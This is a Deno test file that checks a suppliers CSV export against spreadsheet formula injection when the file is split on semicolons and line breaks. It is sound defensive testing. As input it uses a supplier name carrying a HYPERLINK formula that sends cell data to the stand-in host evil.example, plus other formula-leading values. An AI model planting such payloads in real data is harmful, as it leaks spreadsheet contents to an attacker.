/**
 * A record list's CSV export read by a spreadsheet whose list separator is `;` (Excel in German,
 * French, Dutch...): it splits the comma file on `;` and on line breaks whatever the quoting, so
 * a supplier named `Acme;=HYPERLINK(...)` or notes with a line starting `@` must not come out as
 * a formula cell there either.
 */
import assert from "node:assert/strict";
import { signUpTenant, startTestServer } from "../../tests/helpers/server.ts";
import { apiClient } from "../../tests/helpers/api.ts";

Deno.test("the suppliers export has no formula cell when split on semicolons and line breaks", async () => {
  const server = await startTestServer();
  try {
    const t = await signUpTenant(server);
    const api = await apiClient(server, t);
    const created = await api.call("POST", "/api/v1/suppliers", {
      name: 'Acme;=HYPERLINK("http://evil.example/?"&A1;"open")',
      notes: "first line\n@SUM(A1:A9);-2+3\tok; +1",
    });
    assert.equal(created.status, 201, JSON.stringify(created.body));
    const res = await server.fetch(t.host, "/suppliers/export.csv", {
      headers: { cookie: t.jar.header(t.host) },
    });
    assert.equal(res.status, 200);
    const text = await res.text();
    assert.match(text, /Acme;'=HYPERLINK/);
    for (const cell of text.split(/\r\n|\r|\n/).flatMap((line) => line.split(/[;\t]/))) {
      assert.doesNotMatch(cell.trimStart(), /^[=+\-@]/, text);
    }
  } finally {
    await server.close();
  }
});
